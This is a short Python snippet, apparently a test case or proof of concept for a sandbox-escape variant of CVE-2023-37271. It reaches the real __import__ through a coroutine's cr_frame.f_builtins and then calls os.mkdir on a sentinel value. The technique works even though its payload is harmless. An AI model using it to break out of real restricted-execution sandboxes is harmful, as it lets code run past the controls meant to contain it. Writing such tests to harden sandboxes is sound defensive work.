# CVE-2023-37271 variant: a coroutine's cr_frame and its builtins.
async def job():
    return 1
co = job()
importer = co.cr_frame.f_builtins["__import__"]
co.close()
importer("os").mkdir(SENTINEL)
